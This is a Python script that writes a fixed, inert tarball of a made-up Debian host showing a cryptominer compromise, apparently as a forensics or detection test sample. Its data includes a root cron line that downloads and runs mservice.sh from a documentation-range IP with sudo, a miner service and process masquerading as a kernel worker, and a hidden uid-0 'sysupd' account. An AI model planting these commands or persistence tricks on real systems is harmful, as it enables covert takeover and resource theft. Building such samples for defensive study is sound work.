"""Makes samples/web-01.tar.gz: a small made-up host after the worked case of document B.

Every byte is fixed, so the same program makes the same file. Nothing in it can run: programs are
a few bytes of text, addresses are from the documentation ranges of RFC 5737.
"""

import gzip
import io
import sys
import tarfile
from pathlib import Path

TAKEN = 1795226400  # 2026-11-21 02:00 UTC
OUT = Path(__file__).parent.parent / "samples" / "web-01.tar.gz"
ELF = b"\x7fELF\x02\x01\x01" + bytes(57) + b"inert: a made-up program, it cannot run\n"

ACCOUNTS = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:101:65534::/run/sshd:/usr/sbin/nologin
deploy:x:1000:1000:Deploy:/home/deploy:/bin/bash
sysupd:x:0:0::/var/tmp:/bin/bash
"""
SHADOW = """root:$6$salt$made-up:20000:0:99999:7:::
daemon:*:20000:0:99999:7:::
bin:*:20000:0:99999:7:::
www-data:*:20000:0:99999:7:::
sshd:!:20000:0:99999:7:::
deploy:$6$salt$made-up:20000:0:99999:7:::
sysupd:$6$salt$made-up:20777:0:99999:7:::
"""
CRONTAB = """# m h dom mon dow command
15 4 * * * /usr/bin/certbot renew --quiet
0 2 * * * cd /tmp && wget -q http://203.0.113.45/mservice.sh && sudo bash mservice.sh 10014
"""
UNIT = """[Unit]
Description=System update helper

[Service]
ExecStart=/tmp/.X11-lock/xig -o stratum+tcp://203.0.113.45:3333 -u 10014 --donate-level 1
Restart=always

[Install]
WantedBy=multi-user.target
"""
FILES: dict[str, tuple[bytes | str, int]] = {
    "etc/os-release": ('ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12"\n', 0o644),
    "etc/hostname": ("web-01\n", 0o644),
    "etc/machine-id": ("0b0a1f6c5d1e4f0e8a7b6c5d4e3f2a1b\n", 0o444),
    "etc/passwd": (ACCOUNTS, 0o644),
    "etc/shadow": (SHADOW, 0o640),
    "etc/group": ("root:x:0:\nsudo:x:27:deploy\nwww-data:x:33:\n", 0o644),
    "etc/sudoers": ("root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n", 0o440),
    "etc/crontab": ("SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n", 0o644),
    "var/spool/cron/crontabs/root": (CRONTAB, 0o600),
    "etc/systemd/system/sysupd.service": (UNIT, 0o644),
    "etc/ssh/sshd_config": ("PermitRootLogin prohibit-password\nUsePAM yes\n", 0o644),
    "etc/ld.so.conf": ("include /etc/ld.so.conf.d/*.conf\n", 0o644),
    "tmp/.X11-lock/xig": (ELF, 0o755),
    "usr/lib/systemd/systemd": (ELF + b"systemd", 0o755),
    "usr/bin/bash": (ELF + b"bash", 0o755),
    "usr/sbin/sshd": (ELF + b"sshd", 0o755),
    "usr/sbin/nginx": (ELF + b"nginx", 0o755),
    "proc/stat": ("cpu  100 0 100 1000 0 0 0 0 0 0\nbtime 1794000000\n", 0o444),
    "proc/uptime": ("1226400.00 900000.00\n", 0o444),
    "proc/sys/kernel/random/boot_id": ("5d0a3c1e-0b7e-4c55-9c58-0a1b2c3d4e5f\n", 0o444),
    "proc/sys/kernel/hostname": ("web-01\n", 0o444),
    **{
        f"proc/net/{name}": ("", 0o444)
        for name in ["tcp", "tcp6", "udp", "udp6", "packet", "route"]
    },
    "proc/modules": ("ext4 1000000 1 - Live 0x0\n", 0o444),
    "proc/self/mountinfo": ("22 1 8:1 / / rw - ext4 /dev/sda1 rw\n", 0o444),
    "proc/sys/kernel/osrelease": ("6.1.0-18-amd64\n", 0o444),
}
# pid, parent, name, executable, arguments, uid, CPU ticks
PROCESSES = (
    (1, 0, "systemd", "/usr/lib/systemd/systemd", ("/sbin/init",), 0, 900),
    (640, 1, "sshd", "/usr/sbin/sshd", ("sshd: /usr/sbin/sshd -D",), 0, 40),
    (702, 1, "nginx", "/usr/sbin/nginx", ("nginx: master process /usr/sbin/nginx",), 0, 10),
    (703, 702, "nginx", "/usr/sbin/nginx", ("nginx: worker process",), 33, 5000),
    (
        4711,
        1,
        "xig",
        "/tmp/.X11-lock/xig",
        ("[kworker/1:2]", "-o", "stratum+tcp://203.0.113.45:3333", "-u", "10014"),
        0,
        98_000_000,
    ),
)


def stat_line(pid: int, ppid: int, name: str, ticks: int) -> str:
    """One line as proc(5) describes it."""
    after = ["S", ppid, pid, pid, 0, -1, 4194560, 0, 0, 0, 0, ticks, 0, 0, 0, 20, 0, 1, 0]
    after += [100 + pid, 10_000_000, 500, *[0] * 28]
    return f"{pid} ({name}) " + " ".join(map(str, after)) + "\n"


def members() -> list[tuple[str, bytes | str, int, str]]:
    """Path, content, mode, link target of everything."""
    found = [(path, data, mode, "") for path, (data, mode) in FILES.items()]
    found.append(
        ("etc/systemd/system/multi-user.target.wants/sysupd.service", "", 0, "../sysupd.service")
    )
    found += [("bin", "", 0, "usr/bin"), ("sbin", "", 0, "usr/sbin"), ("lib", "", 0, "usr/lib")]
    for pid, ppid, name, exe, argv, uid, ticks in PROCESSES:
        base = f"proc/{pid}"
        status = f"Name:\t{name}\nState:\tS (sleeping)\nPPid:\t{ppid}\nTracerPid:\t0\n"
        status += f"Uid:\t{uid}\t{uid}\t{uid}\t{uid}\nGid:\t{uid}\t{uid}\t{uid}\t{uid}\n"
        texts = {
            "stat": stat_line(pid, ppid, name, ticks),
            "status": status,
            "cmdline": "\0".join(argv) + "\0",
            "environ": "",
            "maps": f"00400000-00500000 r-xp 00000000 08:01 {pid} {exe}\n",
            "cgroup": "0::/system.slice/x.service\n",
            "comm": name + "\n",
        }
        found += [(f"{base}/{part}", text, 0o444, "") for part, text in texts.items()]
        found += [
            (f"{base}/exe", "", 0, exe),
            (f"{base}/cwd", "", 0, "/"),
            (f"{base}/root", "", 0, "/"),
        ]
    return found


def folders(paths: list[str]) -> list[str]:
    """Every folder on the way to some paths, parents first, and a few empty ones."""
    names = {
        *[
            "home",
            "home/deploy",
            "root",
            "etc/cron.d",
            "etc/ld.so.conf.d",
            "proc",
            "run",
            "sys",
            "dev",
            "var/lib",
        ]
    }
    names |= {
        *["proc/sys/fs", "proc/sys/fs/binfmt_misc", "proc/net", "usr/local", "usr/share", "opt"]
    }
    for path in paths:
        parts = path.split("/")[:-1]
        names |= {"/".join(parts[: n + 1]) for n in range(len(parts))}
    return sorted(names)


def main() -> int:
    """Write the sample."""
    packed = io.BytesIO()
    entries = members()
    with tarfile.open(fileobj=packed, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name in folders([path for path, *_ in entries]):
            made = tarfile.TarInfo(f"./{name}")
            made.type, made.mode, made.mtime = tarfile.DIRTYPE, 0o755, TAKEN
            tar.addfile(made)
        for path, data, mode, link in sorted(entries):
            made = tarfile.TarInfo(f"./{path}")
            made.mtime, made.mode = TAKEN, mode
            if link:
                made.type, made.linkname, made.mode = tarfile.SYMTYPE, link, 0o777
                tar.addfile(made)
            else:
                content = data.encode() if isinstance(data, str) else data
                made.size = len(content)
                tar.addfile(made, io.BytesIO(content))
    OUT.parent.mkdir(exist_ok=True)
    OUT.write_bytes(gzip.compress(packed.getvalue(), mtime=0))
    return 0


sys.exit(main())
